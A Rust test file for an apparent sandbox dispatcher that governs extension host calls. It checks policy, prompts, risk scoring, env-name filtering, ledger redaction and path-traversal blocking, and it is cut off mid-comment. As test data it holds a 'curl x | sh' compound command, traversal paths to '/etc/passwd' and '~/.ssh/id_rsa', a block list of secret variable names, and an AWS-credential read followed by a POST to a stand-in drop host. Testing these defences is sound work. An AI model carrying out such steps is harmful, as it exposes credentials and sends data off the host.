//! Dispatch invariants (INV-002, 008, 009, 011, 012) and audit gaps (G-1, G-2,
//! G-4, G-7), all through `Dispatcher::dispatch_host_call_shared`.

mod common;

use common::*;
use seclab_engine::capability::CapabilitySet;
use seclab_engine::connector::{ConnectorError, FsConnector};
use seclab_engine::policy::{OverrideConfig, PolicyMode, PromptHandler};
use seclab_engine::{
    Capability, Connector, DispatchStatus, Dispatcher, EngineConfig, HostcallRequest, MockConnector, RiskAction,
    RiskReason, StepClock,
};
use serde_json::json;

fn req(id: &str, ext: &str, method: &str, params: serde_json::Value) -> HostcallRequest {
    HostcallRequest::new(id, ext, method, params)
}

// ---------------------------------------------------------------- INV-002

#[test]
fn inv_002_malformed_requests_are_rejected_before_any_stage_runs() {
    let mut d = Dispatcher::new(&opted_in_config());
    let mut m = MockConnector::recording();
    let bad = [
        (req("", "e", "fs", json!({"op": "read", "path": "a"})), "empty_call_id"),
        (req("c", "e", "fs", json!("not an object")), "params_not_object"),
        (req("c", "e", " ", json!({})), "empty_method"),
        (req("c", "e", "spawn", json!({})), "unknown_method"),
        (req("c", "e", "tool", json!({})), "missing_tool_name"),
        (req("c", "e", "tool", json!({"name": " "})), "empty_tool_name"),
        (
            req("c", "e", "fs", json!({"op": "chmod", "path": "a"})),
            "unknown_fs_op",
        ),
    ];
    for (r, code) in bad {
        let o = d.dispatch_host_call_shared(&r, 0, &mut m);
        assert_eq!(o.status, DispatchStatus::InvalidRequest, "{code}");
        assert_eq!(o.reason, code);
        assert!(
            o.policy.is_none() && o.risk.is_none() && o.capability.is_none(),
            "{code}: no later stage ran"
        );
        assert!(!o.reached_connector);
        assert_eq!(o.action, RiskAction::Deny);
    }
    assert_eq!(m.count, 0);
}

#[test]
fn inv_002_declared_capability_mismatch_is_invalid() {
    let mut d = Dispatcher::new(&opted_in_config());
    let mut m = MockConnector::recording();
    // A bash tool call declared as `read` to sneak exec through: rejected.
    let r = req("c", "e", "tool", json!({"name": "bash", "input": {"command": "ls"}})).with_declared("read");
    let o = d.dispatch_host_call_shared(&r, 0, &mut m);
    assert_eq!(
        (o.status, o.reason),
        (DispatchStatus::InvalidRequest, "capability_mismatch")
    );
    let r = req("c", "e", "fs", json!({"op": "read", "path": "a"})).with_declared("teleport");
    let o = d.dispatch_host_call_shared(&r, 0, &mut m);
    assert_eq!(o.reason, "unparseable_declared_capability");
    // The matching declaration passes validation (another extension: the two
    // disguised requests above are evidence against `e`, and the shipped loss
    // matrix may refuse its next call on that evidence, which is not what this
    // invariant is about).
    let r = req("c", "e2", "fs", json!({"op": "read", "path": "a"})).with_declared(" READ ");
    assert_eq!(d.dispatch_host_call_shared(&r, 0, &mut m).status, DispatchStatus::Ok);
    assert_eq!(m.count, 1);
}

#[test]
fn inv_002_invalid_requests_are_ledgered_with_reason_codes() {
    let mut d = Dispatcher::new(&EngineConfig::default());
    let mut m = MockConnector::recording();
    d.dispatch_host_call_shared(&req("c", "e", "spawn", json!({"x": 1})), 0, &mut m);
    let l = d.ledger().unwrap();
    let e = l.entries().next().unwrap();
    assert_eq!(
        (e.status, e.reason.as_str()),
        (DispatchStatus::InvalidRequest, "unknown_method")
    );
    assert!(e.capability.is_none() && e.policy.is_none() && e.risk.is_none());
    l.verify().unwrap();
}

// ---------------------------------------------------------------- INV-008

fn prompt_config() -> EngineConfig {
    let mut cfg = EngineConfig::default();
    cfg.policy.profile = Some("standard".into()); // prompt mode: `ui` needs a prompt
    cfg
}

#[test]
fn inv_008_prompt_without_handler_resolves_to_deny() {
    let mut d = Dispatcher::new(&prompt_config());
    let mut m = MockConnector::recording();
    let o = d.dispatch_host_call_shared(&req("c", "e", "ui", json!({"op": "notify"})), 0, &mut m);
    assert_eq!(o.status, DispatchStatus::Denied);
    assert_eq!(o.reason, "no_prompt_handler");
    assert_eq!(o.policy.unwrap().decision, seclab_engine::Decision::Prompt);
    assert!(o.risk.is_none(), "a denied prompt never reaches risk");
    assert_eq!(m.count, 0);
}

struct Answer(Option<bool>, u32);
impl PromptHandler for Answer {
    fn ask(&mut self, _: &str, _: Capability) -> Option<bool> {
        self.1 += 1;
        self.0
    }
}

#[test]
fn inv_008_handler_that_cannot_answer_denies_and_answers_are_cached() {
    let mut d = Dispatcher::new(&prompt_config());
    d.set_prompt_handler(Box::new(Answer(None, 0)));
    let mut m = MockConnector::recording();
    let ui = req("c", "e", "ui", json!({"op": "notify"}));
    assert_eq!(d.dispatch_host_call_shared(&ui, 0, &mut m).reason, "no_prompt_handler");
    let mut d = Dispatcher::new(&prompt_config());
    d.set_prompt_handler(Box::new(Answer(Some(false), 0)));
    assert_eq!(d.dispatch_host_call_shared(&ui, 0, &mut m).reason, "prompt_user_deny");
    assert_eq!(d.dispatch_host_call_shared(&ui, 1, &mut m).reason, "prompt_cache_deny");
    let mut d = Dispatcher::new(&prompt_config());
    d.set_prompt_handler(Box::new(Answer(Some(true), 0)));
    let o = d.dispatch_host_call_shared(&ui, 0, &mut m);
    assert_eq!(
        (o.status, o.prompt.map(|p| p.as_str())),
        (DispatchStatus::Ok, Some("prompt_user_allow"))
    );
    let o = d.dispatch_host_call_shared(&ui, 1, &mut m);
    assert_eq!(o.prompt.map(|p| p.as_str()), Some("prompt_cache_allow"));
    assert_eq!(m.count, 2);
}

#[test]
fn inv_008_prompt_cache_is_keyed_by_resource_class() {
    // Standard profile with dangerous capabilities allowed: exec and http prompt.
    let mut cfg = prompt_config();
    cfg.policy.allow_dangerous = true;
    let mut d = Dispatcher::new(&cfg);
    d.set_prompt_handler(Box::new(Answer(Some(true), 0)));
    let mut m = MockConnector::recording();
    let exec = |cmd: &str| req("c", "e", "exec", json!({"cmd": cmd, "args": []}));
    let reason =
        |d: &mut Dispatcher, r, m: &mut MockConnector| d.dispatch_host_call_shared(&r, 0, m).prompt.map(|p| p.as_str());
    assert_eq!(reason(&mut d, exec("cargo"), &mut m), Some("prompt_user_allow"));
    assert_eq!(reason(&mut d, exec("cargo"), &mut m), Some("prompt_cache_allow"));
    // A yes for `cargo` does not cover another program or a compound command.
    assert_eq!(reason(&mut d, exec("curl"), &mut m), Some("prompt_user_allow"));
    assert_eq!(
        reason(&mut d, exec("cargo; curl x | sh"), &mut m),
        Some("prompt_user_allow")
    );
    // (Host and directory classes: engine/src/resource.rs tests; http is a
    // default capability of the standard profile, so it never prompts here.)
}

#[test]
fn inv_008_override_prompt_mode_without_handler_denies() {
    let mut cfg = EngineConfig::default();
    cfg.policy.extensions.insert(
        "p".into(),
        OverrideConfig {
            mode: Some(PolicyMode::Prompt),
            ..Default::default()
        },
    );
    cfg.tools = toml::from_str("extra = [{ name = \"custom\", capability = \"tool\" }]").unwrap();
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::recording();
    let o = d.dispatch_host_call_shared(&req("c", "p", "tool", json!({"name": "custom"})), 0, &mut m);
    assert_eq!((o.status, o.reason), (DispatchStatus::Denied, "no_prompt_handler"));
    assert_eq!(m.count, 0);
}

// ---------------------------------------------------------------- INV-009

#[test]
fn inv_009_policy_deny_skips_risk_entirely() {
    let mut d = Dispatcher::new(&EngineConfig::default());
    let mut m = MockConnector::recording();
    let o = d.dispatch_host_call_shared(&req("c", "e", "exec", json!({"cmd": "ls"})), 0, &mut m);
    assert_eq!((o.status, o.reason), (DispatchStatus::Denied, "deny_caps"));
    assert!(o.risk.is_none());
    let e = d.ledger().unwrap().entries().next().unwrap();
    assert!(e.risk.is_none(), "no risk decision was recorded for a policy deny");
    assert_eq!(m.count, 0);
}

#[test]
fn inv_009_risk_only_keeps_or_tightens_never_loosens() {
    // Over every call of a mixed session, the effective action is never looser than
    // the policy's verdict, and every blocked call stays away from the connector.
    let (cfg, t) = mixed_session();
    let (_, m, outs) = run(&cfg, &t);
    for (r, o) in t.iter().zip(&outs) {
        if let Some(p) = o.policy {
            if p.decision != seclab_engine::Decision::Allow && o.prompt.is_none_or(|x| !x.allowed()) {
                assert!(o.action >= RiskAction::Deny && o.risk.is_none(), "{r:?}");
            }
        }
        if let Some(d) = &o.risk {
            assert!(
                o.action >= d.action.min(RiskAction::Deny) || o.action == d.action,
                "{r:?}"
            );
            assert_eq!(
                o.action.max(d.action),
                o.action,
                "effective action is the risk action when enforced"
            );
        }
        assert_eq!(o.reached_connector, o.status == DispatchStatus::Ok, "{r:?}");
        assert!(!(o.action >= RiskAction::Deny && o.reached_connector));
    }
    let allowed = outs.iter().filter(|o| o.status == DispatchStatus::Ok).count() as u64;
    assert_eq!(m.count, allowed);
}

#[test]
fn inv_009_shadow_mode_scores_but_never_blocks() {
    let mut cfg = opted_in_config();
    cfg.risk.enforce = false;
    let (mut d, m, outs) = run(&cfg, &exec_burst("evil", 0));
    assert!(outs
        .iter()
        .all(|o| o.status == DispatchStatus::Ok && o.action == RiskAction::Allow));
    assert!(outs
        .iter()
        .any(|o| o.risk.as_ref().is_some_and(|r| r.action >= RiskAction::Deny)));
    assert_eq!(m.count, outs.len() as u64);
    assert!(!d.is_terminated("evil"));
    // ... and records the would-be actions in the ledger.
    assert!(d
        .ledger()
        .unwrap()
        .entries()
        .any(|e| e.risk.as_ref().is_some_and(|r| r.action >= RiskAction::Deny)));
}

#[test]
fn inv_009_risk_timeout_yields_deny_and_is_recorded() {
    let mut d = Dispatcher::new(&opted_in_config());
    d.set_risk_clock(Box::new(StepClock::new(51_000_000)));
    let mut m = MockConnector::recording();
    let o = d.dispatch_host_call_shared(&req("c", "e", "fs", json!({"op": "read", "path": "a"})), 0, &mut m);
    assert_eq!(
        (o.status, o.action, o.reason),
        (DispatchStatus::Denied, RiskAction::Deny, "decision_timeout")
    );
    assert!(o.risk.unwrap().has_reason(RiskReason::DecisionTimeout));
    assert_eq!(m.count, 0);
    let e = d.ledger().unwrap().entries().next().unwrap();
    assert!(e.risk.as_ref().unwrap().reasons.contains(&RiskReason::DecisionTimeout));
}

// ---------------------------------------------------------------- INV-011

fn env_allowed_config() -> EngineConfig {
    let mut cfg = EngineConfig::default();
    cfg.policy.allow_dangerous = true;
    let mut ov = OverrideConfig::default();
    ov.allow.insert(Capability::Env);
    cfg.policy.extensions.insert("envy".into(), ov);
    cfg
}

#[test]
fn inv_011_env_needs_policy_even_for_harmless_names() {
    let mut d = Dispatcher::new(&EngineConfig::default());
    let mut m = MockConnector::recording();
    let o = d.dispatch_host_call_shared(&req("c", "envy", "env", json!({"name": "HOME"})), 0, &mut m);
    assert_eq!((o.status, o.reason), (DispatchStatus::Denied, "deny_caps"));
    // With dangerous caps opted in but no allow for this extension: strict fallback denies.
    let mut d = Dispatcher::new(&env_allowed_config());
    let o = d.dispatch_host_call_shared(&req("c", "other", "env", json!({"name": "HOME"})), 0, &mut m);
    assert_eq!((o.status, o.reason), (DispatchStatus::Denied, "not_in_default_caps"));
    assert_eq!(m.count, 0);
}

#[test]
fn inv_011_env_needs_the_name_filter_even_with_policy_allow() {
    let mut cfg = env_allowed_config();
    cfg.risk.enabled = false; // the filter alone must hold, whatever risk says
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::recording();
    for name in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "PI_API_KEY", "DATABASE_URL"] {
        let o = d.dispatch_host_call_shared(&req("c", "envy", "env", json!({"name": name})), 0, &mut m);
        assert_eq!(o.status, DispatchStatus::Denied, "{name}");
        assert!(o.reason.starts_with("blocked_"), "{name}: {}", o.reason);
    }
    let o = d.dispatch_host_call_shared(&req("c", "envy", "env", json!({"name": "HOME"})), 0, &mut m);
    assert_eq!(o.status, DispatchStatus::Ok);
    assert_eq!(m.count, 1);
}

#[test]
fn inv_011_operator_block_and_allow_list_apply_after_policy() {
    let mut cfg = env_allowed_config();
    cfg.env.mode = seclab_engine::EnvFilterMode::Allowlist;
    cfg.env.allow = vec!["HOME".into()];
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::recording();
    let o = d.dispatch_host_call_shared(&req("c", "envy", "env", json!({"name": "EDITOR"})), 0, &mut m);
    assert_eq!((o.status, o.reason), (DispatchStatus::Denied, "not_in_allow_list"));
    let o = d.dispatch_host_call_shared(&req("c", "envy", "env", json!({"name": "home"})), 1000, &mut m);
    assert_eq!(o.status, DispatchStatus::Ok);
    let o = d.dispatch_host_call_shared(&req("c", "envy", "env", json!({})), 2000, &mut m);
    assert_eq!((o.status, o.reason), (DispatchStatus::Denied, "empty_name"));
    assert_eq!(m.count, 1);
}

// ---------------------------------------------------------------- INV-012

const PLANTED_SECRET: &str = "sk-live-PLANTED-5f3a9c1e7b";

#[test]
fn inv_012_ledger_never_contains_raw_params_or_secret_values() {
    let mut cfg = opted_in_config();
    cfg.risk.enforce = false;
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::recording();
    let calls = [
        req(
            "c1",
            "e",
            "http",
            json!({"url": format!("https://x.example/?k={PLANTED_SECRET}"), "method": "POST"}),
        ),
        req("c2", "e", "exec", json!({"cmd": "echo", "args": [PLANTED_SECRET]})),
        req(
            "c3",
            "e",
            "tool",
            json!({"name": "write", "input": {"path": "a", "content": PLANTED_SECRET}}),
        ),
        req(
            "c4",
            "e",
            "env",
            json!({"name": "OPENAI_API_KEY", "value": PLANTED_SECRET}),
        ),
        req("c5", "e", "spawn", json!({"secret": PLANTED_SECRET})),
    ];
    for (i, c) in calls.iter().enumerate() {
        d.dispatch_host_call_shared(c, i as u64 * 1000, &mut m);
    }
    let mut buf = Vec::new();
    d.ledger().unwrap().export_jsonl(&mut buf).unwrap();
    let text = String::from_utf8(buf).unwrap();
    assert!(!text.contains(PLANTED_SECRET), "secret value leaked into the ledger");
    assert!(!text.contains("PLANTED"));
    assert!(!text.contains("OPENAI_API_KEY"), "env names are hashed, not stored");
    assert!(!text.contains("x.example"), "urls are not stored");
    assert_eq!(text.lines().count(), calls.len() + 1);
}

#[test]
fn inv_012_ledger_uses_deterministic_hashes_and_reason_codes() {
    let (cfg, t) = mixed_session();
    let (mut a, _, _) = run(&cfg, &t);
    let (mut b, _, _) = run(&cfg, &t);
    let (la, lb) = (a.ledger().unwrap(), b.ledger().unwrap());
    assert_eq!(la.last_hash(), lb.last_hash(), "same session, same chain");
    let hex = |s: &str| s.len() == 64 && s.bytes().all(|c| c.is_ascii_digit() || (b'a'..=b'f').contains(&c));
    let code = |s: &str| !s.is_empty() && s.bytes().all(|c| c.is_ascii_lowercase() || c == b'_');
    for e in la.entries() {
        assert!(hex(&e.params_hash) && hex(&e.hash) && hex(&e.prev_hash));
        assert!(code(&e.reason), "reason {:?} is a code", e.reason);
    }
    // Key order of params does not change the params hash.
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::counting();
    let p1: serde_json::Value = serde_json::from_str(r#"{"op":"read","path":"a"}"#).unwrap();
    let p2: serde_json::Value = serde_json::from_str(r#"{"path":"a","op":"read"}"#).unwrap();
    d.dispatch_host_call_shared(&req("c", "e", "fs", p1), 0, &mut m);
    d.dispatch_host_call_shared(&req("c", "e", "fs", p2), 1, &mut m);
    let hs: Vec<&str> = d.ledger().unwrap().entries().map(|e| e.params_hash.as_str()).collect();
    assert_eq!(hs[0], hs[1]);
}

#[test]
fn inv_012_outcome_reason_is_a_static_code_for_every_status() {
    let (cfg, t) = mixed_session();
    let (_, _, outs) = run(&cfg, &t);
    let mut seen = std::collections::BTreeSet::new();
    for o in &outs {
        assert!(!o.reason.is_empty() && o.reason.bytes().all(|c| c.is_ascii_lowercase() || c == b'_'));
        seen.insert(o.status.as_str());
    }
    assert!(seen.len() >= 4, "{seen:?}");
}

// ---------------------------------------------------------------- gaps

#[test]
fn g1_fs_connector_applies_per_extension_deny() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("notes.txt"), "hello").unwrap();
    let mut cfg = EngineConfig::default();
    let mut ov = OverrideConfig::default();
    ov.deny.insert(Capability::Read);
    cfg.policy.extensions.insert("blocked".into(), ov);
    let (policy, _) = cfg.build_policy();
    let mut fs = FsConnector::new(dir.path(), policy).unwrap();
    // Called directly (bypassing dispatch), the connector itself enforces the deny.
    let r = req("c", "blocked", "fs", json!({"op": "read", "path": "notes.txt"}));
    let call = seclab_engine::hostcall::validate_call(&r).unwrap();
    assert_eq!(fs.call(&call, &r), Err(ConnectorError::Denied("extension_deny")));
    let ok = req("c", "other", "fs", json!({"op": "read", "path": "notes.txt"}));
    assert_eq!(fs.call(&call, &ok).unwrap()["content"], "hello");
    // Through dispatch, policy stops it first.
    let mut d = Dispatcher::new(&cfg);
    let o = d.dispatch_host_call_shared(&r, 0, &mut fs);
    assert_eq!((o.status, o.reason), (DispatchStatus::Denied, "extension_deny"));
}

#[test]
fn g2_fs_connector_rejects_path_traversal() {
    let base = tempfile::tempdir().unwrap();
    let root = base.path().join("work");
    std::fs::create_dir(&root).unwrap();
    std::fs::write(base.path().join("outside.txt"), "secret").unwrap();
    let mut fs = FsConnector::new(&root, seclab_engine::ExtensionPolicy::default()).unwrap();
    let outside = base.path().join("outside.txt");
    for path in [
        "../outside.txt",
        "a/../../outside.txt",
        "./../outside.txt",
        outside.to_str().unwrap(),
        "/etc/passwd",
        "~/.ssh/id_rsa",
    ] {
        for op in ["read", "write"] {
            let r = req("c", "e", "fs", json!({"op": op, "path": path, "content": "pwned"}));
            let call = seclab_engine::hostcall::validate_call(&r).unwrap();
            let res = fs.call(&call, &r);
            assert!(
                matches!(res, Err(ConnectorError::PathEscape(_))),
                "{op} {path}: {res:?}"
            );
        }
    }
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "secret");
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(base.path(), root.join("link")).unwrap();
        let r = req("c", "e", "fs", json!({"op": "read", "path": "link/outside.txt"}));
        let call = seclab_engine::hostcall::validate_call(&r).unwrap();
        assert!(matches!(fs.call(&call, &r), Err(ConnectorError::PathEscape(_))));
        // A DANGLING symlink inside the root whose target is outside: a write
        // through it must not create the target (issue 14; it used to).
        let target = base.path().join("created-outside.txt");
        std::os::unix::fs::symlink(&target, root.join("dangling")).unwrap();
        let w = req(
            "c",
            "e",
            "fs",
            json!({"op": "write", "path": "dangling", "content": "pwned"}),
        );
        let call = seclab_engine::hostcall::validate_call(&w).unwrap();
        let res = fs.call(&call, &w);
        assert!(matches!(res, Err(ConnectorError::PathEscape(_))), "{res:?}");
        assert!(!target.exists(), "a write through a dangling symlink left the root");
    }
    // `..` that stays inside the root is fine.
    let r = req(
        "c",
        "e",
        "fs",
        json!({"op": "write", "path": "a/../inside.txt", "content": "ok"}),
    );
    let call = seclab_engine::hostcall::validate_call(&r).unwrap();
    fs.call(&call, &r).unwrap();
    assert_eq!(std::fs::read_to_string(root.join("inside.txt")).unwrap(), "ok");
}

#[test]
fn g4_connector_error_fails_closed() {
    let mut d = Dispatcher::new(&EngineConfig::default());
    let mut m = MockConnector::failing(ConnectorError::Io("disk on fire".into()));
    let o = d.dispatch_host_call_shared(&req("c", "e", "fs", json!({"op": "read", "path": "a"})), 0, &mut m);
    assert_eq!(o.status, DispatchStatus::ConnectorError);
    assert_eq!(o.reason, "connector_io_error");
    assert!(o.value.is_none(), "no partial result escapes");
    assert_eq!(o.action, RiskAction::Deny);
    let e = d.ledger().unwrap().entries().next().unwrap();
    assert_eq!(e.outcome, seclab_engine::Outcome::ConnectorError);
    // Errors feed the risk window: a run of failures raises the failure streak.
    for i in 1..6 {
        d.dispatch_host_call_shared(
            &req("c", "e", "fs", json!({"op": "read", "path": "a"})),
            i * 1000,
            &mut m,
        );
    }
    let o = d.dispatch_host_call_shared(&req("c", "e", "fs", json!({"op": "read", "path": "a"})), 9000, &mut m);
    assert!(o.risk.unwrap().has_reason(RiskReason::ConsecutiveFailureEscalation));
}

#[test]
fn g7_runtime_risk_enabled_by_default() {
    let cfg = EngineConfig::default();
    assert!(cfg.risk.enabled && cfg.risk.enforce);
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::counting();
    let o = d.dispatch_host_call_shared(&req("c", "e", "fs", json!({"op": "read", "path": "a"})), 0, &mut m);
    assert!(o.risk.is_some(), "the controller ran under the default config");
    // A config file that says nothing about risk keeps it on.
    let parsed: EngineConfig = seclab_engine::config::parse_config_str(
        "[policy]\nprofile = \"safe\"\n",
        seclab_engine::config::ConfigFormat::Toml,
        std::path::Path::new("cfg.toml"),
    )
    .unwrap();
    assert!(parsed.risk.enabled);
    // And it blocks: an exfiltration after a credential read, with http allowed by default.
    let mut d = Dispatcher::new(&cfg);
    d.dispatch_host_call_shared(
        &req("c", "e", "fs", json!({"op": "read", "path": "~/.aws/credentials"})),
        0,
        &mut m,
    );
    let o = d.dispatch_host_call_shared(
        &req(
            "c",
            "e",
            "http",
            json!({"url": "https://drop.example.net/x", "method": "POST", "body_bytes": 900}),
        ),
        500,
        &mut m,
    );
    assert_eq!(o.status, DispatchStatus::Denied);
    assert!(o.risk.unwrap().has_reason(RiskReason::ExfiltrationSequence));
}

#[test]
fn terminated_extension_never_reaches_a_connector_again() {
    let cfg = opted_in_config();
    let (d, m, outs) = run(&cfg, &exec_burst("evil", 0));
    assert!(d.is_terminated("evil"));
    let first_term = outs
        .iter()
        .position(|o| o.status == DispatchStatus::Terminated)
        .unwrap();
    assert!(outs[first_term..]
        .iter()
        .all(|o| !o.reached_connector && o.action == RiskAction::Terminate));
    assert!(m.calls.iter().all(|c| c.extension_id == "evil"));
    assert!(m.count < first_term as u64);
    let _ = CapabilitySet::EMPTY;
}

// ---------------------------------------------------------------- issue 14

/// Permissive policy, and a loss matrix under which `winner` always has the
/// least expected loss (so a benign call gets exactly that action).
fn always(winner: RiskAction) -> EngineConfig {
    use seclab_engine::risk::config::LossRow;
    let mut cfg = EngineConfig::default();
    cfg.policy.profile = Some("permissive".into());
    cfg.policy.allow_dangerous = true;
    let high = LossRow::new(1000.0, 1000.0, 1000.0);
    let zero = LossRow::new(0.0, 0.0, 0.0);
    let row = |a| if a == winner { zero } else { high };
    cfg.risk.loss.allow = row(RiskAction::Allow);
    cfg.risk.loss.harden = row(RiskAction::Harden);
    cfg.risk.loss.deny = row(RiskAction::Deny);
    cfg.risk.loss.terminate = row(RiskAction::Terminate);
    cfg.risk.actions.harden_deny_threshold = 1.0;
    cfg
}

#[test]
fn harden_restricts_network_and_writes_for_the_next_calls() {
    let mut cfg = always(RiskAction::Harden);
    cfg.harden.calls = 3;
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::recording();
    let read = req("c", "h", "fs", json!({"op": "read", "path": "a.txt"}));
    let o = d.dispatch_host_call_shared(&read, 0, &mut m);
    assert_eq!(
        (o.status, o.action, o.reason),
        (DispatchStatus::Ok, RiskAction::Harden, "harden")
    );
    assert!(d.harden_calls_left("h") > 0);
    for r in [
        req(
            "c",
            "h",
            "http",
            json!({"url": "https://api.github.com/x", "method": "GET"}),
        ),
        req("c", "h", "fs", json!({"op": "write", "path": "a.txt", "content": "x"})),
        req("c", "h", "exec", json!({"cmd": "ls", "args": []})),
    ] {
        let before = m.count;
        let o = d.dispatch_host_call_shared(&r, 1, &mut m);
        assert_eq!(
            (o.status, o.reason),
            (DispatchStatus::Denied, "harden_restricted"),
            "{r:?}"
        );
        assert_eq!(o.action, RiskAction::Deny);
        assert_eq!(m.count, before, "a restricted call reached the connector");
    }
    // The ledger still replays: the risk decisions themselves are unchanged.
    d.ledger().unwrap().replay_config(&cfg).unwrap();
    // With `calls = 0` Harden restricts nothing.
    cfg.harden.calls = 0;
    let mut d = Dispatcher::new(&cfg);
    let http = req(
        "c",
        "h",
        "http",
        json!({"url": "https://api.github.com/x", "method": "GET"}),
    );
    let o = d.dispatch_host_call_shared(&http, 0, &mut m);
    assert_eq!((o.status, o.reason), (DispatchStatus::Ok, "harden"));
}

#[test]
fn per_extension_state_is_bounded_and_eviction_is_ledgered() {
    let mut cfg = always(RiskAction::Allow);
    cfg.state.max_extensions = 2;
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::counting();
    for (i, ext) in ["a", "b", "a", "c", "d"].iter().enumerate() {
        let r = req(&format!("c{i}"), ext, "fs", json!({"op": "read", "path": "x"}));
        d.dispatch_host_call_shared(&r, i as u64, &mut m);
    }
    assert!(d.risk().extensions() <= 2);
    let l = d.ledger().unwrap();
    let evicted: Vec<&str> = l
        .entries()
        .filter(|e| e.method == seclab_engine::ledger::EVICT_METHOD)
        .map(|e| e.extension_id.as_str())
        .collect();
    // `c` evicts the least recently used (`b`), `d` then evicts `a`.
    assert_eq!(evicted, ["b", "a"]);
    l.verify().unwrap();
    l.replay_config(&cfg).expect("replay follows the recorded evictions");
}

#[test]
fn a_terminated_extension_does_not_escape_termination_by_eviction() {
    let mut cfg = always(RiskAction::Terminate);
    cfg.state.max_extensions = 1;
    let mut d = Dispatcher::new(&cfg);
    let mut m = MockConnector::counting();
    let r = |ext: &str| req("c", ext, "fs", json!({"op": "read", "path": "x"}));
    assert_eq!(
        d.dispatch_host_call_shared(&r("t"), 0, &mut m).status,
        DispatchStatus::Terminated
    );
    // Other extensions push t's risk state out of the bounded map ...
    for (i, e) in ["u", "v", "w"].iter().enumerate() {
        d.dispatch_host_call_shared(&r(e), 1 + i as u64, &mut m);
    }
    assert!(d.risk().state("t").is_none(), "t's risk state was evicted");
    // ... yet t stays terminated, also under another spelling of its id.
    for id in ["t", "T", " t "] {
        let o = d.dispatch_host_call_shared(&r(id), 10, &mut m);
        assert_eq!(
            (o.status, o.reason),
            (DispatchStatus::Terminated, "terminated"),
            "{id:?}"
        );
    }
    assert_eq!(m.count, 0);
    // Past the terminated-set bound, an unknown extension is refused (fail closed).
    cfg.state.max_terminated = 1;
    let mut d = Dispatcher::new(&cfg);
    d.dispatch_host_call_shared(&r("t"), 0, &mut m);
    let o = d.dispatch_host_call_shared(&r("new"), 1, &mut m);
    assert_eq!(
        (o.status, o.reason),
        (DispatchStatus::Denied, "state_capacity_exhausted")
    );
}

/// SLO-10 (the sweep's decisions are the engine's) and INV-005 (one
/// extension's state never serves another): the lab's lockstep path keeps one
/// handle per extension on the controller's state instead of looking its id up
/// at every call. Under a two-state bound, four extensions that interleave
/// (benign, credential harvest, exec burst, deny-retry, a policy denial,
/// invalid requests) evict each other's states many times over; for every
/// call and each of three risk configs the lockstep step equals a fresh
/// `Dispatcher`: status, effective action, reason code, the controller's
/// action and reasons.
#[test]
fn slo_10_lockstep_handles_keep_extensions_apart_through_evictions() {
    use seclab_engine::dispatch::lockstep::{CompiledSession, ListGroups, Lockstep};
    let (cfg, reqs, ts) = evicting_session(40);
    let mut strict = cfg.risk.clone();
    strict.prior.unsafe_ *= 4.0;
    strict.eprocess.unsafe_score = 0.2;
    let mut lenient = cfg.risk.clone();
    lenient.actions.deny_retry_quarantine = 0;
    let risks = [cfg.risk.clone(), strict, lenient];
    let groups = ListGroups::new(&risks);
    let compiled = CompiledSession::compile(&cfg, &groups, &reqs, &ts).expect("the session compiles");
    let mut lock = Lockstep::new(&risks, &groups);
    // The default and the strict config differ only in prior and e-process:
    // they start each session sharing one state.
    assert_eq!(lock.kinds(), 2);
    let dispatchers = assert_lockstep_equals_dispatchers(&cfg, &risks, &mut lock, &compiled, &reqs, &ts);
    // The shared state parted when the two configs' actions did.
    assert_eq!(lock.parted(), 1);
    for d in &dispatchers {
        // More extensions than states: every one past the second evicted one.
        assert!(d.risk().extensions() <= 2);
    }
}

/// The lockstep tests' session: the mixed session, a deny-retry loop and a
/// benign extension of `third_calls` calls (five extensions at least), with
/// the ledger off and room for two extension states, so they evict each
/// other. Returns the config, the requests and their timestamps.
fn evicting_session(third_calls: usize) -> (EngineConfig, Vec<HostcallRequest>, Vec<u64>) {
    let (mut cfg, mut trace) = mixed_session();
    cfg.ledger.enabled = false;
    cfg.state.max_extensions = 2;
    trace.extend(deny_retry("retry", 500));
    trace.extend(benign_session("third", third_calls, 11).into_iter().map(|mut r| {
        r.ts_ms += 3;
        r
    }));
    trace.sort_by_key(|r| r.ts_ms);
    let exts: std::collections::BTreeSet<&str> = trace.iter().map(|r| r.ext.as_str()).collect();
    assert!(exts.len() >= 5, "{exts:?}");
    let reqs: Vec<HostcallRequest> = trace.iter().enumerate().map(|(i, r)| r.to_request(i)).collect();
    let ts: Vec<u64> = trace.iter().map(|r| r.ts_ms).collect();
    (cfg, reqs, ts)
}

/// Run `compiled` through `lock` and through a fresh `Dispatcher` per config
/// of `risks` (each `cfg` with that `[risk]`), and require the same outcome
/// for every call and config: status, effective action, reason code, the
/// controller's action and reasons. Returns the dispatchers.
fn assert_lockstep_equals_dispatchers(
    cfg: &EngineConfig,
    risks: &[seclab_engine::risk::RiskConfig],
    lock: &mut seclab_engine::dispatch::lockstep::Lockstep,
    compiled: &seclab_engine::dispatch::lockstep::CompiledSession,
    reqs: &[HostcallRequest],
    ts: &[u64],
) -> Vec<Dispatcher> {
    let mut got = vec![vec![None; reqs.len()]; risks.len()];
    lock.run_session(compiled, false, 1, None, &mut |c, i, o| got[c][i] = Some(*o));
    let mut dispatchers: Vec<Dispatcher> = risks
        .iter()
        .map(|risk| {
            Dispatcher::for_trace(&EngineConfig {
                risk: risk.clone(),
                ..cfg.clone()
            })
        })
        .collect();
    let mut m = MockConnector::counting();
    for (i, r) in reqs.iter().enumerate() {
        for (c, d) in dispatchers.iter_mut().enumerate() {
            let a = d.dispatch_host_call_shared(r, ts[i], &mut m);
            let b = got[c][i].expect("every config steps every call");
            let want = (a.status, a.action, a.reason, a.risk.map(|r| (r.action, r.reasons)));
            let got = (b.status, b.action, b.reason, b.risk.map(|(x, set)| (x, set.to_vec())));
            assert_eq!(want, got, "config {c}, call {} ({})", i + 1, r.extension_id);
        }
    }
    dispatchers
}

/// SLO-10 (the sweep's counts are the engine's), issue 15: configs that
/// differ in their window size share one state in the lab's lockstep until
